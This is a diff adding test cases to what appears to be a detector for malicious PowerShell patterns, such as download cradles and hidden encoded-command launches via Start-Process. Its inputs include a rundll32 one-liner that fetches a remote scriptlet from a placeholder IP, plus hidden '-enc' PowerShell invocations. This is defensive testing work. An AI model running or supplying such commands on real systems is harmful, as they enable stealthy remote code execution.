@@ -60,3 +60,32 @@ def test_an_inline_script_run_by_mshta_is_no_download_unless_it_fetches_a_url() 
         rundll32.exe 'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.7/r.sct")'
     """)
     assert lines_of(result, "PSDownloadCradle") == [3, 4]
+
+
+@pytest.mark.parametrize(("program", "arguments", "expected"), [
+    ('"$env:windir\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', '"-NoP -W Hidden -enc $enc"', [4]),
+    ("'pwsh'", "@('-NonInteractive', '-EncodedCommand', $enc)", [4]),
+    ("'powershell.exe'", "'-NoProfile -File C:\\Scripts\\run.ps1 -e $enc'", []),  # -e is the script's own
+    ("'notepad.exe'", "'-enc C:\\notes.txt'", []),
+])
+def test_a_hashtable_splatted_into_start_process_is_read_as_its_parameters(
+        program: str, arguments: str, expected: list[int]) -> None:
+    result = analyze(f"""
+        $enc = 'UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAALQBTAGUAYwBvAG4AZABzACAAMwAwAA=='
+        $psi = @{{
+            FilePath     = {program}
+            ArgumentList = {arguments}
+            WindowStyle  = 'Hidden'
+        }}
+        Start-Process @psi
+    """)
+    assert lines_of(result, "PSEncodedCommand") == expected
+
+
+def test_a_hashtable_not_splatted_into_start_process_is_no_process() -> None:
+    result = analyze("""
+        $psi = @{ FilePath = 'powershell.exe'; ArgumentList = '-NoP -enc UwB0AGEAcgB0AC0AUwBsAGUAZQBw' }
+        $psi | ConvertTo-Json | Out-File C:\\temp\\p.json
+        Invoke-Command @psi
+    """)
+    assert lines_of(result, "PSEncodedCommand") == []
